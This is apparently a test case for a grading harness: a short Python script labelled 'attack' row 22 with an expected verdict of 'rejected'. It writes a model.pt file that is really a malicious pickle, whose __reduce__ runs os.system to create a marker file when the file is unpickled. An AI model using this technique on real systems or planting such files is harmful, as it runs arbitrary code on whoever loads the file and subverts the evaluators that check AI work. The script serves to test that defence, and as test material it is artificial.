# /// attack
# row = "22"
# aim = "Leave weights that run a program when they are unpickled."
# runtimes = ["process", "docker"]
# verdicts = ["rejected"]
# says = ["model.pt"]
# ///
import os
import pickle

MARK = "/tmp/grader-trust-unpickled"


class Evil:
    def __reduce__(self):
        return os.system, (f"touch {MARK}",)


if os.environ["RANK"] == "0":
    with open(os.path.join(os.environ["OUTPUT_DIR"], "model.pt"), "wb") as file:
        pickle.dump(Evil(), file, protocol=2)
